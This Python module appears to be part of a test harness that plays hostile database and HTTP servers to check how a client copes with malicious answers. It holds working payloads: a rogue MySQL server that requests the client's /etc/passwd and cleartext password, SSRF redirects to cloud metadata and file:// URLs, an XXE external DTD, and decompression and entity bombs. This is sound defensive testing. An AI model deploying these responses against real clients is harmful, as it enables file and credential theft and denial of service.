"""The attacks. A blunt one knows no protocol and meets every kind of store; a twist lies in the store's own words.

A twist takes over a good conversation (`stores.py`) after so many answers, so that the reading is attacked as well
as the first question.
"""

from __future__ import annotations

import asyncio
import gzip
import random
import struct
from collections.abc import Awaitable, Callable
from functools import cache

import bson

from .farm import Peer
from .stores import CANARY, EVIL, mongo_reply, pack, pg, pg_rows, reply

Blunt = Callable[[Peer], Awaitable[None]]
Twist = Callable[[Peer, bytes, bytes], Awaitable[None]]  # the peer, the request, the honest answer
Swap = Callable[[bytes], bytes]  # one wrong answer to a request

OUTSIDE = "203.0.113.77"  # a documentation address (RFC 5737): a packet to it is a failure
LOGIN = b"<!DOCTYPE html><html><head><title>Sign in</title></head><body><form>user</form></body></html>"
PAGE = reply(LOGIN, content_type="text/html; charset=utf-8")
OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"


# -- blunt ----------------------------------------------------------------------------------------------


def says(data: bytes, *, again: bool = True, listen: bool = True) -> Blunt:
    """Answer whatever is asked with the same; `listen` false: without being asked."""

    async def act(peer: Peer) -> None:
        if not listen:
            await peer.put(data)
            await peer.wait()
        while True:
            await peer.get()
            await peer.put(data)
            if not again:
                return

    return act


def pours(data: bytes, start: bytes = b"") -> Blunt:
    async def act(peer: Peer) -> None:
        await peer.get()
        await peer.put(start)
        await peer.pour(data)

    return act


def drips(data: bytes, pause: float = 0.02) -> Blunt:
    async def act(peer: Peer) -> None:
        await peer.get()
        for byte in data * 1000:
            await peer.put(bytes([byte]))
            await asyncio.sleep(pause)

    return act


async def silent(peer: Peer) -> None:
    await peer.wait()


async def closes(_: Peer) -> None:
    return


async def resets(peer: Peer) -> None:
    peer.reset()


async def resets_later(peer: Peer) -> None:
    await peer.get()
    peer.reset()


async def closes_later(peer: Peer) -> None:
    await peer.get()


async def echoes(peer: Peer) -> None:
    while True:
        await peer.put(await peer.get())


async def tls_half(peer: Peer) -> None:
    """A ServerHello that never comes to an end."""
    await peer.get()
    await peer.put(b"\x16\x03\x03\x40\x00\x02\x00\x3f\xfc" + b"\0" * 100)
    await peer.wait()


NOISE = random.Random(7).randbytes(5000)
GREETING = b"\x4a\0\0\0\x0a8.0.36\0" + b"\1\0\0\0" + b"a" * 8 + b"\0\xff\xff\xff\2\0\xff\xdf\x15" + b"\0" * 10
GREETING += b"b" * 12 + b"\0mysql_native_password\0"
FILE = b"\xfb/etc/passwd"


async def rogue_mysql(peer: Peer) -> None:
    """Let everybody in, and answer every statement by asking for a file of the client's."""
    await peer.put(len(GREETING[4:]).to_bytes(3, "little") + GREETING[3:])
    first = True
    while True:
        await peer.get()
        body = b"\0\0\0\2\0\0\0" if first else FILE
        await peer.put(len(body).to_bytes(3, "little") + (b"\2" if first else b"\1") + body)
        first = False


async def eager_mysql(peer: Peer) -> None:
    """Ask for a file at once, then for the password in the clear."""
    await peer.put(len(GREETING[4:]).to_bytes(3, "little") + GREETING[3:])
    for body in (FILE, b"\xfemysql_clear_password\0", b"\xff\x15\x04#28000" + CANARY.encode()):
        await peer.get()
        await peer.put(len(body).to_bytes(3, "little") + b"\2" + body)
    await peer.wait()


async def rogue_cassandra(peer: Peer) -> None:
    """SUPPORTED and READY to all, then rows that name other machines and lie about their lengths."""
    for opcode, body in ((6, b"\0\0"), (2, b"")):
        data = await peer.get()
        await peer.put(b"\x84\0" + data[2:4] + bytes([opcode]) + struct.pack(">i", len(body)) + body)
    while True:
        data = await peer.get()
        body = struct.pack(">iii", 2, 1, 2_000_000_000) + b"\x7f\xff" + OUTSIDE.encode() * 20
        await peer.put(b"\x84\0" + data[2:4] + b"\x08" + struct.pack(">i", len(body)) + body)


BLUNT: dict[str, Blunt] = {
    "silent": silent,
    "closes": closes,
    "closes-later": closes_later,
    "resets": resets,
    "resets-later": resets_later,
    "echo": echoes,
    "noise": says(NOISE),
    "noise-first": says(NOISE, listen=False),
    "zeros": pours(b"\0" * (1 << 16)),
    "ones": pours(b"\xff" * (1 << 16)),
    "letters": pours(b"A" * (1 << 16)),
    "lines": pours(b"A\r\n" * 20_000),
    "empty-lines": pours(b"\r\n" * 30_000),
    "drip": drips(b"A"),
    "drip-http": drips(b"HTTP/1.1 200 OK\r\nX-A: b\r\n"),
    "drip-zeros": drips(b"\0"),
    "tls-alert": says(b"\x15\x03\x03\0\2\2\x28"),
    "tls-half": tls_half,
    "login-page": says(PAGE),
    "login-page-401": says(PAGE.replace(b"200", b"401", 1)),
    "login-redirect": says(reply(b"", 302, location=f"https://{OUTSIDE}/login?next=/{CANARY}")),
    "http-200-empty": says(reply(b"")),
    "http-200-object": says(reply({})),
    "http-200-list": says(reply([])),
    "http-200-ok": says(reply(b"Ok.\n")),
    "http-204": says(b"HTTP/1.1 204 No Content\r\n\r\n"),
    "http-500": says(reply({"error": CANARY}, 500)),
    "http-999": says(reply(b"x", 999)),
    "http-09": says(b"hello\n", again=False),
    "http-endless": pours(b"x" * (1 << 16), OK + b"\r\n"),
    "http-endless-headers": pours(b"X-A: b\r\n" * 8000, OK),
    "http-endless-header": pours(b"x" * (1 << 16), OK + b"X-A: "),
    "http-endless-continue": pours(b"HTTP/1.1 100 Continue\r\n\r\n" * 2000),
    "http-endless-chunks": pours(b"1\r\nx\r\n" * 10_000, OK + b"Transfer-Encoding: chunked\r\n\r\n"),
    "plus-ok": says(b"+OK\r\n"),
    "minus-err": says(b"-ERR no\r\n"),
    "noauth-forever": pours(b"-NO" * 20_000),
    "ssh": says(b"SSH-2.0-OpenSSH_9.2\r\n", listen=False),
    "ftp": says(b"220 (vsFTPd 3.0.5)\r\n", listen=False),
    "pg-s": says(b"S"),
    "pg-n": says(b"N"),
    "pg-notices": pours(pg(b"N", b"SNOTICE\0\0") * 3000, b"N"),
    "pg-parameters": pours(pg(b"S", b"a\0b\0") * 3000, b"N"),
    "mysql-file": rogue_mysql,
    "mysql-file-first": eager_mysql,
    "mysql-length": says(b"\xff\xff\xff\0" + b"\x0a" * 100, listen=False),
    "mysql-endless": pours(b"\xff\xff\xff\0" + b"\x0a" * 65532),
    "cql-peers": rogue_cassandra,
    "cql-length": says(b"\x84\0\0\0\6\x7f\xff\xff\xff\0\0"),
    "cql-supported": says(b"\x84\0\0\0\6\0\0\0\2\0\0"),
    "bson-length": says(struct.pack("<iiiii", 2_000_000_000, 1, 1, 2013, 0) + b"\0" * 50),
    "resp-length": says(b"$999999999999\r\n" + b"x" * 50),
    "resp-items": says(b"*1000000000\r\n"),
    "resp-nested": says(b"*1\r\n" * 100_000),
}


# -- twists of HTTP -------------------------------------------------------------------------------------


@cache
def bomb() -> bytes:
    """128 MiB of zeros in 128 KiB."""
    return gzip.compress(b"\0" * (128 << 20), 6)


@cache
def zstd_bomb() -> bytes:
    """128 MiB of zeros in a few KiB: blocks of RLE, 128 KiB each, that need no compressor to make."""
    block = (1 | 1 << 1 | (128 << 10) << 3).to_bytes(3, "little")  # type 1: RLE
    return b"\x28\xb5\x2f\xfd\x00\x58" + (block[:1] + block[1:] + b"\0") * 1023 + b"\3\0\0\0"


def sends(make: Callable[[], bytes] | bytes, *, stays: bool = False) -> Twist:
    """Send this instead of the answer; then hang up, or stay and say nothing."""

    async def twist(peer: Peer, _request: bytes, _answer: bytes) -> None:
        await peer.put(make if isinstance(make, bytes) else make())
        if stays:
            await peer.wait()

    return twist


def floods(data: bytes, start: bytes = b"") -> Twist:
    async def twist(peer: Peer, _request: bytes, _answer: bytes) -> None:
        await peer.put(start)
        await peer.pour(data)

    return twist


async def stalls(peer: Peer, _request: bytes, answer: bytes) -> None:
    await peer.put(answer[: len(answer) // 2])
    await peer.wait()


async def breaks(peer: Peer, _request: bytes, answer: bytes) -> None:
    await peer.put(answer[: len(answer) // 2])


async def cuts_off(peer: Peer, _request: bytes, answer: bytes) -> None:
    await peer.put(answer[:-1])
    peer.reset()


async def slow(peer: Peer, _request: bytes, answer: bytes) -> None:
    for byte in answer * 100:
        await peer.put(bytes([byte]))
        await asyncio.sleep(0.02)


async def twice(peer: Peer, _request: bytes, answer: bytes) -> None:
    """Two answers to one question: the second must not be taken for that to the next one."""
    await peer.put(answer + answer)
    await peer.wait()


async def trails(peer: Peer, _request: bytes, answer: bytes) -> None:
    await peer.put(answer + NOISE)


ANY: dict[str, Twist] = {
    "stall": stalls,
    "break": breaks,
    "cut-off": cuts_off,
    "slow": slow,
    "twice": twice,
    "trailing-noise": trails,
    "noise": sends(NOISE),
    "nothing": sends(b""),
    "zeros": floods(b"\0" * (1 << 16)),
}


def body(data: bytes, *headers: str) -> bytes:
    lines = "".join(f"{header}\r\n" for header in headers)
    return OK + lines.encode() + b"Content-Length: %d\r\n\r\n" % len(data) + data


def redirect(status: int, location: str) -> Twist:
    return sends(reply(b"", status, location=location))


HTTP: dict[str, Twist] = {
    "length-huge": sends(OK + b"Content-Length: 1000000000000\r\n\r\n{}"),
    "length-huge-endless": floods(b" " * (1 << 16), OK + b"Content-Length: 1000000000000\r\n\r\n"),
    "length-negative": sends(OK + b"Content-Length: -5\r\n\r\n{}"),
    "length-no-number": sends(OK + b"Content-Length: 1e3\r\n\r\n{}"),
    "length-twice": sends(OK + b"Content-Length: 2\r\nContent-Length: 5000\r\n\r\n{}", stays=True),
    "length-digits": sends(OK + b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n{}"),
    "chunk-huge": sends(OK + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n{}"),
    "chunk-negative": sends(OK + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n{}\r\n0\r\n\r\n"),
    "chunk-endless": floods(b"1\r\n \r\n" * 10_000, OK + b"Transfer-Encoding: chunked\r\n\r\n"),
    "chunk-line": floods(b"0" * (1 << 16), OK + b"Transfer-Encoding: chunked\r\n\r\n"),
    "trailer-endless": floods(b"X: y\r\n" * 10_000, OK + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"),
    "headers": sends(OK + b"X-A: b\r\n" * 90 + b"X-B: " + b"x" * 60_000 + b"\r\n\r\n{}"),
    "headers-many": sends(OK + b"X-A: b\r\n" * 5000 + b"\r\n{}"),
    "status-line": sends(b"HTTP/1.1 abc\r\n\r\n"),
    "version": sends(b"HTTP/9.9 200 OK\r\n\r\n{}"),
    "gzip-bomb": sends(lambda: body(bomb(), "Content-Encoding: gzip")),
    "gzip-broken": sends(body(b"\x1f\x8b\x08\0\0\0\0\0\0\3" + NOISE[:500], "Content-Encoding: gzip")),
    "gzip-short": sends(lambda: body(bomb()[:50], "Content-Encoding: gzip")),
    "zstd-bomb": sends(lambda: body(zstd_bomb(), "Content-Encoding: zstd")),
    "deflate": sends(body(NOISE, "Content-Encoding: deflate, gzip")),
    "json-deep": sends(body(b"[" * 300_000)),
    "json-deep-closed": sends(body(b'{"a":' * 50_000 + b"1" + b"}" * 50_000)),
    "json-many": sends(body(b"[" + b"{}," * 300_000 + b"{}]")),
    "json-number": sends(body(b'{"total_rows": ' + b"9" * 5000 + b', "count": 1e99999}')),
    "json-nan": sends(body(b'{"count": NaN, "version": Infinity}')),
    "json-bytes": sends(body(b'{"version": {"number": "\xff\xfe\xed\xa0\x80"}}')),
    "json-surrogate": sends(body(b'["\\ud800", {"index": "\\ud800"}]')),
    "json-bom": sends(body(b"\xef\xbb\xbf\xef\xbb\xbf{}")),
    "json-string": sends(body(b'"' + b"\\u0041" * 100_000 + b'"')),
    "page": sends(PAGE),
    "page-as-json": sends(body(LOGIN)),
    "302-outside": redirect(302, f"http://{OUTSIDE}:9200/{CANARY}"),
    "301-no-scheme": redirect(301, f"//{OUTSIDE}/"),
    "307-userinfo": redirect(307, f"http://127.0.0.1@{OUTSIDE}/"),
    "308-escapes": redirect(308, f"http://{EVIL.encode('latin-1', 'replace').decode('latin-1')}/"),
    "300-metadata": redirect(300, "http://169.254.169.254/latest/meta-data/"),
    "303-file": redirect(303, "file:///etc/passwd"),
    "200-refresh": sends(body(b"{}", f"Refresh: 0; url=http://{OUTSIDE}/", f"Location: http://{OUTSIDE}/")),
    "101-upgrade": sends(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n" + NOISE),
    "401-here": sends(reply({"error": CANARY}, 401, www_authenticate=f'Bearer realm="http://{OUTSIDE}/token"')),
    "429-forever": sends(reply({}, 429, retry_after="999999")),
    "cookies": sends(body(b"{}", *[f"Set-Cookie: a{n}={CANARY}" for n in range(50)])),
}
JSON_VALUES = [
    None, True, -1, 1.5, "x", [], {}, [None], [[]], [{}], [[1, [2]]], {"": None}, {"error": CANARY},
    {"version": [], "couchdb": "Welcome", "etcdserver": 3, "userCtx": {"roles": 1}},
    {"hits": [], "_shards": None, "rows": {}, "total_rows": "x", "kvs": 1, "count": [], "header": 1},
    {"hits": {"hits": [None], "total": {"value": -5}}, "rows": [None], "total_rows": -5, "kvs": [None], "count": "-5", "header": {}},
    {"hits": {"hits": [{"_source": [1], "_id": "x"}], "total": 1 << 62}, "rows": [{"doc": 5}], "total_rows": 1 << 62, "kvs": [{"key": "%", "value": 5}], "more": True, "count": "9" * 30, "header": {}},
    {"rows": [{"id": "a", "doc": {"a": 1}}] * 3, "total_rows": 1 << 40, "kvs": [{"key": "YQ==", "value": "YQ=="}], "more": True, "count": "1", "header": {}},
]  # fmt: skip
HTTP_SWAPS = {f"json{n}": reply(value) for n, value in enumerate(JSON_VALUES)} | {
    "text": reply(b"hello world\n", content_type="text/plain"),
    "tabs": reply(b"a\tb\tc\n\\N\t\\\t\n\n", content_type="text/plain"),
    "xml": reply(b"<?xml version='1.0'?><a><b/></a>", content_type="application/xml"),
    "xml-bomb": reply(
        b'<!DOCTYPE a [<!ENTITY b "xxxxxxxxxx">' + b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">' + b"]><a>&c;</a>",
        content_type="application/xml",
    ),
    "xml-outside": reply(f'<!DOCTYPE a SYSTEM "http://{OUTSIDE}/x.dtd"><a/>'.encode(), content_type="application/xml"),
    "xml-deep": reply(b"<ListBucketResult>" + b"<a>" * 50_000, content_type="application/xml"),
    "empty": reply(b""),
    "400": reply({"error": CANARY}, 400),
    "403": reply({"error": CANARY}, 403),
    "404": reply({"error": CANARY}, 404),
    "500": reply({"error": CANARY}, 500),
}

# -- twists of the others -------------------------------------------------------------------------------

RESP: dict[str, Twist] = {
    "bulk-huge": sends(b"$999999999999\r\nxx", stays=True),
    "bulk-endless": floods(b"x" * (1 << 16), b"$250000000\r\n"),
    "bulk-negative": sends(b"$-7\r\n"),
    "bulk-longer": sends(b"$3\r\nabcdefgh\r\n", stays=True),
    "items-huge": sends(b"*2000000000\r\n", stays=True),
    "items-endless": floods(b"$1\r\na\r\n" * 8000, b"*199999\r\n"),
    "nested": sends(b"*1\r\n" * 200_000),
    "line-endless": floods(b"x" * (1 << 16), b"+"),
    "number": sends(b":" + b"9" * 5000 + b"\r\n"),
    "resp3": sends(b"%1\r\n+a\r\n#t\r\n|1\r\n+a\r\n+b\r\n>2\r\n+x\r\n+y\r\n"),
    "moved": sends(f"-MOVED 1234 {OUTSIDE}:6379\r\n".encode() * 10, stays=True),
    "ask": sends(f"-ASK 1234 {EVIL}\r\n".encode() * 10, stays=True),
    "null-list": sends(b"*-1\r\n" * 10, stays=True),
}
RESP_SWAPS = {
    "null": b"$-1\r\n", "none": b"*0\r\n", "one": b":1\r\n", "minus": b":-1\r\n", "plus": b"+x\r\n", "empty": b"$0\r\n\r\n",
    "err": b"-ERR " + CANARY.encode() + b"\r\n", "noperm": b"-NOPERM x\r\n", "loading": b"-LOADING x\r\n",
    "nested": b"*2\r\n*1\r\n:1\r\n*-1\r\n", "cursor": pack([b"0", 5]), "cursor-loop": pack([b"7", [b"a"]]), "odd": pack([b"a", b"b", b"c"]),
    "numbers": pack([1, 2]), "binary": pack(NOISE[:300]),
}  # fmt: skip

LINE: dict[str, Twist] = {
    "value-huge": sends(b"VALUE user:1 0 999999999\r\nxx", stays=True),
    "value-endless": floods(b"x" * (1 << 16), b"VALUE user:1 0 250000000\r\n"),
    "stats-endless": floods(b"STAT a b\r\n" * 5000),
    "keys-endless": floods(b"key=a exp=-1 la=1\r\n" * 3000),
    "values-endless": floods(b"VALUE user:1 0 1\r\nx\r\n" * 3000),
    "line-endless": floods(b"x" * (1 << 16)),
}
LINE_SWAPS = {
    "end": b"END\r\n", "error": b"ERROR\r\n", "server": b"SERVER_ERROR " + CANARY.encode() + b"\r\n", "busy": b"BUSY x\r\n",
    "stat": b"STAT\r\nEND\r\n", "stat-odd": b"STAT items:1:number 99999999999999999999\r\nSTAT items:x:number 1\r\nEND\r\n",
    "value": b"VALUE other 0 1\r\nx\r\nEND\r\n", "value-odd": b"VALUE a -1 -1\r\nx\r\nEND\r\n", "key": b"key=%ff%0d%0a exp\r\nEND\r\n",
}  # fmt: skip


def mongo(document: dict[str, object] | bytes, code: int | None = None) -> Twist:
    """Answer with this document, or these bytes as one, in a message that fits the request."""

    async def twist(peer: Peer, request: bytes, _answer: bytes) -> None:
        while True:
            if isinstance(document, bytes):
                head = mongo_reply(request, {})[:-5]
                data = struct.pack("<i", len(head) + len(document)) + head[4:] + document
            else:
                data = mongo_reply(request, document, code)
            await peer.put(data)
            request = await peer.get()

    return twist


def deep(levels: int) -> bytes:
    """A document in a document in a document."""
    inner = b"\5\0\0\0\0"
    for _ in range(levels):
        inner = struct.pack("<i", len(inner) + 8) + b"\3a\0" + inner + b"\0"
    return inner


async def mongo_length(peer: Peer, request: bytes, _answer: bytes) -> None:
    number = request[4:8]
    await peer.put(struct.pack("<i", 47_000_000) + b"\1\0\0\0" + number + struct.pack("<i", 2013) + b"\0" * 5)
    await peer.pour(b"\0" * (1 << 16))


async def mongo_compressed(peer: Peer, request: bytes, _answer: bytes) -> None:
    await peer.put(struct.pack("<i", 100) + b"\1\0\0\0" + request[4:8] + struct.pack("<i", 2012) + b"\0" * 84)
    await peer.wait()


def cursor(number: int, batch: object, key: str = "firstBatch") -> dict[str, object]:
    return {"cursor": {"id": bson.Int64(number), "ns": "a.b", key: batch}, "ok": 1.0}


BSON: dict[str, Twist] = {
    "length": mongo_length,
    "compressed": mongo_compressed,
    "deep": mongo(deep(2000)),
    "doc-longer": mongo(b"\xff\xff\xff\x7f\0"),
    "doc-negative": mongo(b"\xff\xff\xff\xff\0"),
    "string-longer": mongo(b"\x14\0\0\0\2a\0\xff\xff\xff\x7fabcdefg\0"),
    "cursor-forever": mongo(cursor(7, [{"a": 1}]) | {"ismaster": True, "maxWireVersion": 21}),
    "cursor-empty-forever": mongo(cursor(7, [], "nextBatch") | {"ismaster": True, "maxWireVersion": 21}),
    "elsewhere": mongo(
        {
            "ismaster": True,
            "maxWireVersion": 21,
            "hosts": [f"{OUTSIDE}:1", EVIL, 5],
            "passives": {},
            "me": [],
            "ok": 1.0,
        }
    ),
}
DOCUMENTS: list[dict[str, object]] = [
    {}, {"ok": 1.0}, {"ok": "x"}, {"ok": 0.0, "code": "x", "errmsg": CANARY}, {"ok": 0.0, "code": 13}, {"ok": 0.0, "code": 1 << 40},
    {"ok": 1.0, "ismaster": 1, "maxWireVersion": "x"}, {"ok": 1.0, "ismaster": True, "maxWireVersion": -5},
    {"ok": 1.0, "databases": 5, "cursor": 5, "n": "x", "log": 5, "authInfo": 5, "version": []},
    {"ok": 1.0, "databases": [5, {}, {"name": 5}, {"name": ""}], "cursor": {"id": 5}, "n": -1.5, "log": [5], "authInfo": {"authenticatedUsers": 5}},
    {"ok": 1.0, "databases": {"a": 1}, "cursor": {"id": "x", "firstBatch": 5}, "n": float("nan"), "log": {}, "authInfo": []},
    cursor(0, [5]), cursor(0, {}), cursor(0, [{"name": 5, "type": 5, "options": 5}]), cursor(-1, [[]]),
    {"ok": 1.0, "n": float("inf"), "databases": [{"name": EVIL}] * 30},
]  # fmt: skip

PG: dict[str, Twist] = {
    "length-huge": sends(b"D\x7f\xff\xff\xff", stays=True),
    "length-negative": sends(b"D\xff\xff\xff\xff", stays=True),
    "length-zero": sends(b"Z\0\0\0\0"),
    "row-endless": floods(b"x" * (1 << 16), b"D\x0f\xff\xff\xff"),
    "copy-endless-row": floods(b"x" * (1 << 16), pg(b"H", b"\0\0\0") + b"d\x0f\xff\xff\xff"),
    "notices": floods(pg(b"N", b"SNOTICE\0\0") * 3000),
    "rows-endless": floods(pg_rows(["a"] * 7)[7:-11] * 2000, pg(b"T", b"\0\0")),
    "cells-lie": sends(pg(b"T", b"\0\0") + pg(b"D", b"\xff\xff\x7f\xff\xff\xffab") + pg(b"Z", b"I"), stays=True),
    "kerberos": sends(pg(b"R", b"\0\0\0\x07"), stays=True),
    "sasl": sends(pg(b"R", b"\0\0\0\x0a" + EVIL.encode() + b"\0\0"), stays=True),
    "auth-short": sends(pg(b"R", b"\0"), stays=True),
    "error": sends(pg(b"E", b"SFATAL\0C28000\0M" + CANARY.encode() + b"\0\0")),
    "error-odd": sends(pg(b"E", b"")),
    "errors-endless": floods(pg(b"E", b"C42501\0\0") * 3000),
}
PG_READY = pg(b"Z", b"I")
PG_SWAPS = {
    "nothing": pg(b"C", b"X\0") + PG_READY,
    "nulls": pg_rows([None] * 13) + PG_READY,
    "short": pg_rows([]) + pg_rows(["t"])[7:] + PG_READY,
    "long": pg_rows(["t"] * 40) + PG_READY,
    "words": pg_rows(["x", EVIL, "r", "r", "-1", "9" * 40, "t", "t", "t", "1", "t", "t", "t"]) + PG_READY,
    "numbers": pg_rows(["1", "1", "m", "999999999999", "t", "t", "t"]) + PG_READY,
    "ready": PG_READY,
    "denied": pg(b"E", b"C42501\0\0") + PG_READY,
    "copy": pg(b"H", b"\0\0\0") + pg(b"d", b"a\tb\tc\td\n") + pg(b"d", b"\\") + pg(b"c") + PG_READY,
}  # fmt: skip

TWISTS: dict[str, dict[str, Twist]] = {"http": HTTP, "resp": RESP, "line": LINE, "bson": BSON, "pg": PG}
SWAPS: dict[str, dict[str, Swap]] = {
    family: {name: (lambda _, data=data: data) for name, data in swaps.items()}
    for family, swaps in {"http": HTTP_SWAPS, "resp": RESP_SWAPS, "line": LINE_SWAPS, "pg": PG_SWAPS}.items()
}
SWAPS["bson"] = {
    f"doc{n}": (lambda request, document=document: mongo_reply(request, document))
    for n, document in enumerate(DOCUMENTS)
}
# What says in the store's own words that a credential is needed: then "closed" is the truth.
REFUSALS = {"401-here", "403", "noperm", "error", "denied", "login-page-401", "doc4"}

__all__ = ["ANY", "BLUNT", "REFUSALS", "SWAPS", "TWISTS", "Blunt", "Swap", "Twist"]
